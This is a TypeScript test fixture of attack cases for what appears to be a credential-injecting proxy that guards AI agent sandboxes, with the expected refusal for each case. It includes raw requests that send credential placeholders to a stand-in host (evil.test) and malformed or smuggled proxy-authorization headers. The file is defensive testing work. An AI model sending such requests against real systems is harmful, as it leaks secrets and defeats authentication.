import type { AttackCase, AttackGroup } from "../harness/attack-case.fixture.ts";
import { githubPlaceholder, placeholderSpellings, tokenRoutes } from "../tables/credentials.fixture.ts";
import { identityScenarios, keptConnections, reloadScenarios } from "./credential-scenarios.fixture.ts";
import { inTunnel } from "./in-tunnel.fixture.ts";

const noPlaceholder = /placeholder|cGxhY2Vob2xkZX|BsYWNlaG9sZGVy|wbGFjZWhvbGRlc/u;

/** Placeholders, token routes and identities. */
export const credentialGroups: readonly AttackGroup[] = [
  {
    id: "P27",
    title: "routes that hand out credentials",
    rule: "A route that answers with a new credential is refused, or answered with placeholders; the answer never reaches a session.",
    source: "claudecode_webui #1073, tokenizer's sealed responses; vendors' API references",
    alone: "the routes are the rules' own data",
    cases: tokenRoutes.map(([method, url]) => ({
      what: `${method} ${url}`,
      ...inTunnel(method, url),
      // A method in small letters is none to the parser.
      // The login of Codex is renewed here, with placeholders.
      sees: /[a-z]/u.test(method) ? "400" : url.includes("auth.openai.com") ? "200" : "403 token-route",
    })),
  },
  {
    id: "P29",
    title: "a placeholder for another host",
    rule: "A placeholder that is sent where no rule replaces it never goes on the wire, in no encoding.",
    source: "microsandbox #702",
    alone: "the others know no placeholders",
    cases: placeholderSpellings.flatMap(([name, headers, path]) => [
      {
        what: `${name}, to another ruled host`,
        ...inTunnel("GET", `https://npm.example.com${path}`, { headers }),
        sees: "403 placeholder-misplaced",
      },
      {
        what: `${name}, to a plain host`,
        way: "proxy" as const,
        session: "open" as const,
        send: `GET http://evil.test${path} HTTP/1.1\r\nHost: evil.test\r\nAUTH${Object.entries(headers)
          .map(([key, value]) => `${key}: ${value}\r\n`)
          .join("")}\r\n`,
        sees: "403 placeholder-misplaced",
      },
    ]),
  },
  {
    id: "P30",
    title: "a placeholder that cannot be replaced",
    rule: "Without its secret, or on a path that its rule does not name, the request is refused or its credentials are dropped: never sent as it is.",
    source: "OpenShell #2162, nono #1585",
    alone: "the others know no placeholders",
    cases: [
      {
        what: "a rule whose secret is missing",
        ...inTunnel("GET", "https://missing.example/", {
          headers: { authorization: "Bearer clauderon-missing-placeholder" },
        }),
        sees: "403 secret-missing",
      },
      {
        what: "a path that the rule does not name",
        ...inTunnel("GET", "https://eu.sentry.example/settings", {
          headers: { authorization: "Bearer clauderon-sentry-placeholder" },
        }),
        never: noPlaceholder,
        sees: "200",
      },
      {
        what: "a method that the rule does not name",
        ...inTunnel("GET", "https://github.com/login", { headers: { authorization: `Bearer ${githubPlaceholder}` } }),
        never: noPlaceholder,
        sees: "200",
      },
      {
        what: "in the path of the host it is for",
        ...inTunnel("GET", `https://api.github.com/${githubPlaceholder}`, {
          headers: { authorization: `Bearer ${githubPlaceholder}` },
        }),
        never: /Bearer clauderon/u,
        sees: "200",
      },
      {
        what: "the wrong kind of header for its rule",
        ...inTunnel("GET", "https://api.anthropic.com/v1/models", {
          headers: { "x-custom": "sk-ant-oat01-clauderon-oauth-placeholder" },
        }),
        never: /x-api-key: sk-ant-oat01-clauderon|authorization: Bearer sk-ant-oat01-clauderon/iu,
        sees: /^(?:200|403)/u,
      },
    ],
  },
  {
    id: "P31",
    title: "who asks",
    rule: "Without a token 407; tokens are 256 bit, end with their session, survive a restart of the proxy and belong to one session.",
    source: "OpenClaw CVE-2026-43585, OpenShell cross-sandbox report of May 2026; RFC 9110 §11.7",
    alone: "the others know no sessions",
    cases: [
      ...(
        [
          ["no identity", "", "407 identity-missing"],
          ["a wrong token", "Proxy-Authorization: Basic bGlzdGVkOndyb25n\r\n", "407 identity-unknown"],
          ["the name alone", "Proxy-Authorization: Basic bGlzdGVkOg==\r\n", "407 identity-unknown"],
          ["no Base64", "Proxy-Authorization: Basic %%%\r\n", "407 identity-unknown"],
          ["another scheme", "Proxy-Authorization: Bearer bGlzdGVkOndyb25n\r\n", "407 identity-unknown"],
          ["an empty value", "Proxy-Authorization: \r\n", "407 identity-unknown"],
          ["Authorization in its place", "Authorization: Basic bGlzdGVkOndyb25n\r\n", "407 identity-missing"],
          ["the header twice", "AUTHproxy-authorization: Basic bGlzdGVkOndyb25n\r\n", "407 identity-unknown"],
        ] as const
      ).flatMap(([what, lines, sees]): readonly AttackCase[] => [
        {
          what: `${what}: CONNECT`,
          way: "proxy",
          send: `CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: x\r\n${lines}\r\n`,
          sees,
        },
        {
          what: `${what}: absolute form`,
          way: "proxy",
          send: `GET http://api.anthropic.com/ HTTP/1.1\r\nHost: api.anthropic.com\r\n${lines}\r\n`,
          sees,
        },
      ]),
      ...identityScenarios,
    ],
  },
  {
    id: "P32",
    title: "connections that are kept",
    rule: "Every request of a connection is decided on anew; a session that changes or ends takes its connections with it.",
    source: "OpenShell #819; connection pooling across principals (CWE-488)",
    alone: "the others know no sessions",
    cases: keptConnections,
  },
  {
    id: "P33",
    title: "rules that change under load",
    rule: "One request sees one state of the rules: the old or the new, never a mixture.",
    source: "time of check, time of use (CWE-367)",
    alone: "the others have no settings that are read again",
    cases: reloadScenarios,
  },
];
